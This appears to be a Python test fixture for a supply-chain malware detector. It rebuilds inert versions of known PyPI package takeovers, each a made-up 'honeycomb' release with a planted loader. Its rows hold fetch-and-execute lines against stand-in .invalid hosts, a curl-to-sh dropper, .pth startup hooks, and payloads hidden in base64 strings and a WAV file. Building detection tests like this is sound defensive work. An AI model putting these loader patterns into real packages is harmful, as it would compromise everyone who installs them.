"""Takeovers of known projects, rebuilt inert from their published descriptions: a release, and the bad one after it.

All hosts end in .invalid and every payload is a line that does nothing; names are made up.
"""

from __future__ import annotations

import base64
import zlib
from collections.abc import Mapping
from dataclasses import dataclass, field
from datetime import UTC, datetime, timedelta

from tests.support.archives import Content, sdist, sdist_name, wheel, wheel_name
from tests.support.index import TwinFile, TwinProject

NAME = "honeycomb"
#: What an honest release of the made-up project holds.
HONEST: Mapping[str, Content] = {
    f"{NAME}/__init__.py": '"""Cells."""\n\nfrom honeycomb.client import Client\n\n__all__ = ["Client"]\n',
    f"{NAME}/client.py": (
        "import urllib.request\n\nBASE = 'https://api.honeycomb.invalid/v1'\n\n\nclass Client:\n"
        "    def __init__(self, token):\n        self.token = token\n\n"
        "    def cells(self):\n        return urllib.request.urlopen(BASE + '/cells').read()\n"
    ),
}
_SETUP = f"from setuptools import setup\n\nsetup(name='{NAME}', version='1.0', packages=['{NAME}'])\n"
_NOTHING = base64.b64encode(zlib.compress(b"import os\nprint(os.name)\n")).decode()
_SOUND = b"RIFF\x24\x00\x00\x00WAVEfmt " + bytes(28) + base64.b64encode(b"print()\n") * 40


def _with(path: str, text: Content, **more: Content) -> dict[str, Content]:
    return {**HONEST, path: text, **more}


@dataclass(frozen=True)
class Takeover:
    """One row of the table. `after` are the bad release's wheel, `source` its sdist (None: there is none).

    `burst`: minutes between several bad releases; `attested`: the earlier releases and, if `still`, the bad one.
    `fires` is what a project's past and drift must say, `code` what its code must.
    """

    id: str
    was: str
    technique: str
    fires: frozenset[str]
    code: frozenset[str]
    after: Mapping[str, Content] = field(default_factory=lambda: dict(HONEST))
    source: Mapping[str, Content] | None = None
    requires: tuple[str, ...] = ()
    attested: bool = False
    still: bool = False
    yanked: bool = False
    burst: int = 0
    first: bool = False

    @property
    def version(self) -> str:
        """The bad release that is checked."""
        return "1.4.3" if self.burst else "1.4.1"

    def project(self, now: datetime | None = None) -> TwinProject:
        """What the index offers: three honest releases, and what came after them hours ago."""
        now = now or datetime.now(UTC)
        files: list[TwinFile] = []
        for number in range(0 if self.first else 3):
            when = now - timedelta(days=400 - 100 * number)
            files += _files(f"1.{number + 2}.0", HONEST, {**HONEST, "setup.py": _SETUP}, when, self.attested)
        bad = ["1.4.1", "1.4.2", "1.4.3"] if self.burst else ["1.4.1"]
        for number, version in enumerate(bad):
            when = now - timedelta(hours=5) + timedelta(minutes=self.burst * number)
            files += _files(version, self.after, self.source, when, self.still, self.requires, self.yanked)
        return TwinProject(tuple(files))


def _files(
    version: str,
    files: Mapping[str, Content],
    source: Mapping[str, Content] | None,
    when: datetime,
    attested: bool,
    requires: tuple[str, ...] = (),
    yanked: bool = False,
) -> list[TwinFile]:
    uploaded, provenance = when.isoformat(), "to be signed" if attested else None
    reason = "reported" if yanked else None

    def offered(filename: str, data: bytes) -> TwinFile:
        return TwinFile(filename, data, uploaded=uploaded, provenance=provenance, yanked=reason)

    made = [offered(wheel_name(NAME, version), wheel(NAME, version, files, requires=requires))]
    if source is not None:
        made.append(offered(sdist_name(NAME, version), sdist(NAME, version, source, requires=requires)))
    return made


_DROPPER = (
    "import os\nimport platform\nimport subprocess\n\nif platform.system() == 'Linux':\n"
    "    subprocess.run('curl -k -s https://cdn.drop.invalid/a -o /tmp/.a && sh /tmp/.a', shell=True, check=False)\n\n"
)
_PTH = "import urllib.request as u; exec(u.urlopen('https://models.lure.invalid/p').read())\n"

TAKEOVERS = (
    Takeover(
        id="aiocpa",
        was="aiocpa 0.1.13",
        technique="a trusted client's constructor sends the token, by code that is decoded and executed",
        after=_with(
            f"{NAME}/client.py",
            "import base64\nimport urllib.request\nimport zlib\n\nBASE = 'https://api.honeycomb.invalid/v1'\n\n\n"
            "class Client:\n    def __init__(self, token):\n        self.token = token\n"
            f"        exec(zlib.decompress(base64.b64decode('{_NOTHING}')))\n",
        ),
        fires=frozenset({"drift-sinks"}),
        code=frozenset({"decoded-code-executed"}),
    ),
    Takeover(
        id="ultralytics",
        was="ultralytics 8.3.45",
        technique="a leftover token, round the project's own workflow; a program is fetched and started",
        after=_with(
            f"{NAME}/client.py",
            f"{HONEST[f'{NAME}/client.py']!s}"
            "\n\ndef safe_run(path):\n    import os\n    import subprocess\n"
            "    urllib.request.urlretrieve('https://pool.coin.invalid/bin/' + path, '/tmp/' + path)\n"
            "    os.chmod('/tmp/' + path, 0o770)\n    subprocess.Popen(['/tmp/' + path])\n",
        ),
        attested=True,
        fires=frozenset({"attestation-lost", "drift-sinks"}),
        code=frozenset({"download-and-start"}),
    ),
    Takeover(
        id="chimera",
        was="chimera-sandbox-extensions 0.1.42",
        technique="a new package with a loader; there is no release before it, so that only its code and age speak",
        after=_with(
            f"{NAME}/__init__.py",
            "import urllib.request\n\nexec(urllib.request.urlopen('https://ab12.domains.invalid/auth').read())\n",
        ),
        first=True,
        fires=frozenset(),
        code=frozenset({"fetched-code-executed"}),
    ),
    Takeover(
        id="num2words",
        was="num2words 0.5.15",
        technique="a loader in a new module that the package imports",
        after=_with(
            f"{NAME}/__init__.py",
            "from honeycomb import _lang\nfrom honeycomb.client import Client\n\n__all__ = ['Client']\n",
            **{
                f"{NAME}/_lang.py": "import subprocess\nimport sys\nimport tempfile\nimport urllib.request\n\n"
                "path = tempfile.mktemp()\nurllib.request.urlretrieve('https://nums.words.invalid/l', path)\n"
                "subprocess.Popen([sys.executable, path])\n"
            },
        ),
        fires=frozenset({"drift-hosts", "drift-phase", "drift-sinks"}),
        code=frozenset({"download-and-start"}),
    ),
    Takeover(
        id="bittensor-wallet",
        was="bittensor-wallet 4.0.2",
        technique="only the sdist is bad; the wheel beside it is the project's own",
        source={
            **HONEST,
            "setup.py": _SETUP,
            f"{NAME}/keys.py": "import subprocess\n\nsubprocess.run(['sh', '-c', 'true'], check=False)\n",
        },
        fires=frozenset({"drift-phase", "drift-sinks", "files-disagree"}),
        code=frozenset({"import-time-process"}),
    ),
    Takeover(
        id="litellm",
        was="litellm 1.82.8",
        technique="a new .pth that runs code each time Python starts",
        after={**HONEST, f"{NAME}_init.pth": _PTH},
        fires=frozenset({"drift-hosts", "drift-phase", "drift-sinks", "drift-startup"}),
        code=frozenset({"startup-payload"}),
    ),
    Takeover(
        id="telnyx",
        was="telnyx 4.87.1",
        technique="the payload lies in a sound file, and is decoded and executed on import",
        after=_with(
            f"{NAME}/__init__.py",
            "import base64\nimport os\nimport wave\n\n"
            "with wave.open(os.path.join(os.path.dirname(__file__), 'ring.wav')) as sound:\n"
            "    exec(base64.b64decode(sound.readframes(320)))\n",
            **{f"{NAME}/ring.wav": _SOUND},
        ),
        fires=frozenset({"drift-files", "drift-phase", "drift-sinks"}),
        code=frozenset({"media-decoded-executed"}),
    ),
    Takeover(
        id="xinference",
        was="xinference 2.6.0",
        technique="a decoded program is started on import; the release was yanked before it was deleted",
        after=_with(
            f"{NAME}/__init__.py",
            "import base64\nimport subprocess\nimport sys\n\n"
            f"subprocess.Popen([sys.executable, '-c', base64.b64decode('{base64.b64encode(b'print()').decode()}')])\n",
        ),
        yanked=True,
        fires=frozenset({"drift-phase", "drift-sinks"}),
        code=frozenset({"decoded-command-started"}),
    ),
    Takeover(
        id="elementary-data",
        was="elementary-data 0.23.3",
        technique="the project's own workflow was made to publish it: attested all the same, with a new .pth",
        after={**HONEST, "elements.pth": _PTH},
        attested=True,
        still=True,
        fires=frozenset({"drift-hosts", "drift-phase", "drift-sinks", "drift-startup"}),
        code=frozenset({"startup-payload"}),
    ),
    Takeover(
        id="lightning",
        was="lightning 2.6.2",
        technique="a thread on import starts another language's runtime on a script in a hidden folder",
        after=_with(
            f"{NAME}/__init__.py",
            "import os\nimport subprocess\nimport threading\n\n\ndef _run():\n"
            "    here = os.path.join(os.path.dirname(__file__), '_runtime')\n"
            "    subprocess.run(['bun', os.path.join(here, 'main.js')], check=False)\n\n\n"
            "threading.Thread(target=_run, daemon=True).start()\n",
            **{f"{NAME}/_runtime/main.js": "var nothing = 1;\n" * 200},
        ),
        fires=frozenset({"drift-files", "drift-phase", "drift-sinks"}),
        code=frozenset({"import-time-thread"}),
    ),
    Takeover(
        id="mistralai",
        was="mistralai 2.4.6, guardrails-ai 0.10.1",
        technique="a dropper by curl on import, on Linux alone",
        after=_with(f"{NAME}/__init__.py", _DROPPER),
        fires=frozenset({"drift-hosts", "drift-phase", "drift-sinks"}),
        code=frozenset({"fetch-and-run-command"}),
    ),
    Takeover(
        id="durabletask",
        was="durabletask 1.4.1 to 1.4.3",
        technique="a stolen token; three releases within 35 minutes, a dropper on import",
        after=_with(f"{NAME}/__init__.py", _DROPPER),
        burst=17,
        fires=frozenset({"drift-hosts", "drift-phase", "drift-sinks", "release-burst"}),
        code=frozenset({"fetch-and-run-command"}),
    ),
    Takeover(
        id="hades",
        was="pyphetools, gpsea, CoolBox and others",
        technique="a -setup.pth that fetches another language's runtime from a forge and runs a script in it",
        after={
            **HONEST,
            f"{NAME}-setup.pth": "import os, urllib.request as u; "
            "u.urlretrieve('https://forge.runtime.invalid/bun.zip', '/tmp/bun'); "
            "os.system('/tmp/bun run /tmp/index.js')\n",
        },
        fires=frozenset({"drift-hosts", "drift-phase", "drift-sinks", "drift-startup"}),
        code=frozenset({"startup-payload"}),
    ),
)
